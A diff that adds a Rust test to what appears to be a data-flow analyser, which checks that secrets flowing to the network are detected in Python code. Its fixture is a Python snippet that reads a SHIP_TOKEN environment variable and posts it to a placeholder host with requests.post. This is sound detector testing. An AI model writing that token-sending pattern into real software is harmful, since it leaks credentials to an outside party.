@@ -532,3 +532,30 @@ fn honest_classes_and_commands_are_not_accused() {
         assert_eq!(review["verdict"], "benign", "{files:?}\n{}", review["behaviors"]);
     }
 }
+
+/// One place that reads under several names, each in a context of its own, reads several variables.
+#[test]
+fn a_place_that_reads_under_several_names_is_several_sources() {
+    let paths = paths(
+        r#"import os
+import requests
+
+
+class Setting:
+    def __init__(self, key):
+        self.key = key
+
+    def get(self):
+        return os.environ.get(self.key)
+
+
+ORIGIN = Setting('SHIP_ORIGIN')
+TOKEN = Setting('SHIP_TOKEN')
+print(ORIGIN.get())
+requests.post('https://ship.example.invalid/a', data=TOKEN.get())
+"#,
+    );
+    let sent: Vec<&str> = paths.lines().filter(|line| line.contains("network.send")).collect();
+    assert!(!sent.is_empty() && sent.iter().all(|line| line.contains("SHIP_TOKEN")), "{paths}");
+    assert!(paths.lines().any(|line| line.contains("SHIP_ORIGIN") && line.contains("-> log print")), "{paths}");
+}
